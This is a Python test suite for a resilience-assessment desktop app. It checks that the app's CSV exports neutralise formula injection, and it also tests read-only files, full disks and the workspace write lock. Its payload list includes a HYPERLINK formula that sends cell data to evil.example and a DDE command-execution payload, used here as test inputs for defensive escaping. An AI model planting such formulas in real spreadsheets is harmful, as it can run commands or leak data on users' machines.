"""CSV injection, read-only files, full disks, the write lock and headless runs (issue 19)."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from resilience_desktop.errors import WorkspaceError, WorkspaceLockedError, WorkspaceReadOnlyError
from resilience_desktop.national import import_bundle, open_store, summary_csv
from resilience_desktop.national.summary import city_summary
from resilience_desktop.report.answers_csv import write_answers_csv
from resilience_desktop.results.action_plan import action_plan_rows, write_action_plan_csv
from resilience_desktop.workspace.facade import Workspace

from ..bundle.conftest import small_bundle  # noqa: F401
from ..fixtures import populate
from .helpers import refused, tree_digest

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tindent", "\r=1+1"]


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_inert(cells: list[str]) -> None:
    for c in cells:
        assert not c.startswith(("=", "+", "-", "@", "\t", "\r")), c
        assert "\x00" not in c


def test_every_csv_the_app_writes_is_formula_safe(workspace, tmp_path, mini_registry, small_bundle):  # noqa: F811
    city, aid = populate(workspace)
    for i, text in enumerate(FORMULAS):
        q = ("P3.1", "P3.2", "P4.1", "P4.2", "P5.1", "P5.2")[i]
        workspace.set_answer(aid, q, score=1, comment=text)
        workspace.add_action(aid, q, text, responsible=text, timescale="1 year")
    out = tmp_path / "answers.csv"
    write_answers_csv(workspace, aid, out)
    cells = _cells(out.read_text(encoding="utf-8-sig"))
    _assert_inert(cells)
    assert "'" + FORMULAS[0] in cells and "'-2+3" in cells  # kept, shown as text
    plan = io.StringIO()
    write_action_plan_csv(action_plan_rows(workspace.scorecard_of(aid), workspace.answers(aid),
                                           workspace.list_actions(aid)), plan)
    cells = _cells(plan.getvalue())
    _assert_inert(cells)
    assert "'@SUM(A1:A9)" in cells
    with open_store(tmp_path / "n.db") as store:
        import_bundle(store, small_bundle, registry=mini_registry)
        store.execute("UPDATE cities SET name = ?", ('=HYPERLINK("http://x")',))
        cells = _cells(summary_csv(city_summary(store)))
    _assert_inert(cells)
    assert '\'=HYPERLINK("http://x")' in cells


def test_numbers_stay_numbers(tmp_path):
    from resilience_desktop.safety.csv_safe import writer
    buf = io.StringIO()
    writer(buf).writerow([-3, 2.5, "-3"])
    assert buf.getvalue().strip() == "-3,2.5,'-3"



def test_selection_exposure_and_e2_csvs_are_formula_safe(tmp_path):
    """The CSVs whose cells come from a map layer's attributes or a bundle's city names."""
    import shapely

    from resilience_desktop.gis.export import export_features
    from resilience_desktop.gis.exposure_table import write_csv
    from resilience_desktop.national.sendai import E2_COLUMNS, e2_csv
    texts = [*FORMULAS, "Ош\x00Nul"]
    rows = [{"name": t, "beds": 12} for t in texts]
    out = tmp_path / "selection.csv"
    export_features(out, shapely.points([[74.6, 42.9]] * len(rows)), rows, ["name", "beds"], "EPSG:4326")
    cells = _cells(out.read_text(encoding="utf-8-sig"))
    _assert_inert(cells)
    assert "'" + FORMULAS[0] in cells and "12" in cells  # numbers stay numbers
    groups = [{"layer": "hospitals", "group": t, "affected": 1, "total": 2} for t in texts]
    out = write_csv(tmp_path / "exposure.csv", {"groups": groups}, facts={"crs": "=1+1"})
    _assert_inert(_cells(out.read_text(encoding="utf-8-sig")))
    city = {k: None for k in E2_COLUMNS}
    city.update(name=FORMULAS[0], region="@SUM(A1:A9)", country="+KG", city_id="Ош\x00Nul")
    cells = _cells(e2_csv({"rule": "preliminary:P1.1>=2", "local_governments": 1, "in_line": 0, "share": 0.0,
                           "data_date": None, "cities": [city]}))
    _assert_inert(cells)
    assert "'@SUM(A1:A9)" in cells and "ОшNul" in cells


def test_no_csv_is_written_around_the_safe_writer():
    """Every CSV writer of the package goes through ``safety.csv_safe`` (a new one cannot forget it)."""
    import re

    import resilience_desktop
    root = Path(resilience_desktop.__file__).parent
    raw = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    found = [f"{p.relative_to(root)}:{n}" for p in sorted(root.rglob("*.py")) if p.name != "csv_safe.py"
             for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1) if raw.search(line)]
    assert found == []


# ------------------------------------------------------------------ read-only files
_AS_NOBODY = """
import os, sys
from resilience_desktop.cli.main import main
import contextlib, io
with contextlib.redirect_stdout(io.StringIO()):  # a read-only run first: every module is imported as root
    assert main(["city", "list", "--workspace", sys.argv[-1]]) == 0
os.setgroups([]); os.setgid(65534); os.setuid(65534)  # an ordinary user from here on
sys.exit(main(sys.argv[1:]))
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to become an ordinary user")
def test_read_only_workspace_gives_its_own_sentence_and_leaves_nothing(mini_registry):
    import tempfile
    folder = Path(tempfile.mkdtemp(prefix="rd-readonly-"))
    try:
        path = folder / "city.rdw"
        with Workspace.create(path, registry=mini_registry) as ws:
            populate(ws)
        os.chmod(path, 0o444)
        os.chmod(folder, 0o755)  # nobody may read, not write: neither the file nor its folder
        before = tree_digest(folder)
        r = subprocess.run([sys.executable, "-c", _AS_NOBODY, "city", "add", "Ош", "--country", "KG",
                            "--workspace", str(path)], capture_output=True, text=True, timeout=120)
        assert r.returncode == 2, r.stderr
        assert r.stderr.strip().splitlines() == [
            "resilience-desktop: error: city.rdw cannot be written (the file or its folder is read-only): open it "
            "read-only, or make it writable"]
        assert tree_digest(folder) == before and sorted(p.name for p in folder.iterdir()) == ["city.rdw"]
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def test_read_only_check_runs_before_any_lock_or_backup(tmp_path, mini_registry, monkeypatch):
    path = tmp_path / "city.rdw"
    with Workspace.create(path, registry=mini_registry) as ws:
        populate(ws)
    before = tree_digest(tmp_path)
    real = os.access
    monkeypatch.setattr(os, "access", lambda p, mode, *a, **k: False if Path(p) == path and mode & os.W_OK
                        else real(p, mode, *a, **k))
    with pytest.raises(WorkspaceReadOnlyError, match="read-only"):
        Workspace.open(path, registry=mini_registry)
    assert tree_digest(tmp_path) == before


# ------------------------------------------------------------------ full disk
@pytest.fixture
def tiny_disk(tmp_path):
    """A 3 MiB tmpfs (root only); skipped where it cannot be mounted."""
    mount = tmp_path / "disk"
    mount.mkdir()
    r = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=3m", "tmpfs", str(mount)], capture_output=True)
    if r.returncode != 0:
        pytest.skip("cannot mount a small tmpfs here")
    yield mount
    subprocess.run(["umount", "-l", str(mount)], capture_output=True)


def _fill(folder: Path, leave: int) -> None:
    free = shutil.disk_usage(folder).free
    (folder / "filler").write_bytes(b"\0" * max(0, free - leave))


def test_full_disk_during_layer_add_says_so_and_keeps_the_workspace(tiny_disk, tmp_path, capsys, mini_registry):
    from .corpus import crossing_polygon_geojson
    path = tiny_disk / "city.rdw"
    with Workspace.create(path, registry=mini_registry) as ws:
        populate(ws)
    big = crossing_polygon_geojson(tmp_path, 30_000)
    with Workspace.open(path, registry=mini_registry) as ws:  # the backup is made now, while there is room
        pass
    _fill(tiny_disk, 64 * 1024)
    line = refused(capsys, "layer", "add", big, "--workspace", path)
    assert "full" in line and "cannot rollback" not in line and "disk I/O" not in line
    (tiny_disk / "filler").unlink()
    with Workspace.open(path, read_only=True, registry=mini_registry) as ws:
        assert ws.list_layers() == [] and len(ws.list_cities()) == 1
    assert not list(tiny_disk.glob("*.partial")) and not list(tiny_disk.glob("*.tmp"))


def test_full_disk_when_the_backup_is_taken(tiny_disk, capsys, mini_registry):
    path = tiny_disk / "city.rdw"
    with Workspace.create(path, registry=mini_registry) as ws:
        populate(ws)
    _fill(tiny_disk, 16 * 1024)
    before = tree_digest(tiny_disk)
    with pytest.raises(WorkspaceError, match="no backup of city.rdw could be made"):
        Workspace.open(path, registry=mini_registry)
    after = tree_digest(tiny_disk)
    assert after == before  # no partial backup, no empty backups folder, no lock file



def test_full_disk_while_the_bundle_is_written_says_so(tiny_disk, tmp_path, capsys, mini_registry):
    """The workspace has room, the disk the bundle goes to has none: one sentence naming the file,
    no partial ZIP, no revision used up (before: "No space left on device" and nothing else)."""
    path = tmp_path / "city.rdw"
    with Workspace.create(path, registry=mini_registry) as ws:
        _city, aid = populate(ws)
    _fill(tiny_disk, 0)  # a small bundle fits in a few KB
    before = sorted(p.name for p in tiny_disk.iterdir())
    line = refused(capsys, "bundle", "export", aid, "-o", tiny_disk / "testgrad.zip", "--workspace", path)
    assert line.endswith("cannot write testgrad.zip: the disk is full; free some space and try again"), line
    assert sorted(p.name for p in tiny_disk.iterdir()) == before
    (tiny_disk / "filler").unlink()
    with Workspace.open(path, read_only=True, registry=mini_registry) as ws:
        assert ws.exports.history(aid) == []


# ------------------------------------------------------------------ the write lock
def test_deleting_lock_files_does_not_let_a_second_writer_in(tmp_path, mini_registry):
    path = tmp_path / "city.rdw"
    with Workspace.create(path, registry=mini_registry) as ws:
        populate(ws)
    first = Workspace.open(path, registry=mini_registry)
    try:
        for extra in tmp_path.glob("*.lock"):
            extra.unlink()
        code = ("import sys; from resilience_desktop.workspace.facade import Workspace\n"
                "try:\n    Workspace.open(sys.argv[1]).close()\nexcept Exception as e:\n"
                "    print(type(e).__name__); sys.exit(3)\n")
        r = subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, text=True, timeout=60)
        assert (r.returncode, r.stdout.strip()) == (3, "WorkspaceLockedError"), r.stderr
        with pytest.raises(WorkspaceLockedError):
            Workspace.open(path, registry=mini_registry)  # a second open in the same process, too
    finally:
        first.close()
    Workspace.open(path, registry=mini_registry).close()  # released on close


def test_a_replaced_workspace_file_is_not_written_unlocked(tmp_path, mini_registry):
    from resilience_desktop.store.lock import WorkspaceLock
    path = tmp_path / "city.rdw"
    path.write_bytes(b"x")
    lock = WorkspaceLock(path)
    try:
        moved = tmp_path / "moved.rdw"
        path.rename(moved)
        path.write_bytes(b"x")  # someone put another file in its place: a new inode, unlocked
        WorkspaceLock(path).release()  # the new file is a different file: lockable
        with pytest.raises(WorkspaceLockedError):
            WorkspaceLock(moved)  # the original is still held
    finally:
        lock.release()


@pytest.mark.ui
def test_screenshot_of_a_locked_workspace_opens_it_read_only(tmp_path, mini_registry):
    path = tmp_path / "city.rdw"
    with Workspace.create(path, registry=mini_registry) as ws:
        populate(ws)
    holder = Workspace.open(path, registry=mini_registry)
    try:
        env = dict(os.environ, QT_QPA_PLATFORM="offscreen")
        r = subprocess.run([sys.executable, "-m", "resilience_desktop", "--workspace", str(path), "--screenshot",
                            str(tmp_path / "shot.png")], capture_output=True, text=True, env=env, timeout=90)
    finally:
        holder.close()
    assert r.returncode == 0, r.stderr
    assert "open in another running Resilience Desktop" in r.stderr and "read-only" in r.stderr
    assert len(r.stderr.strip().splitlines()) == 1
    assert (tmp_path / "shot.png").stat().st_size > 10_000
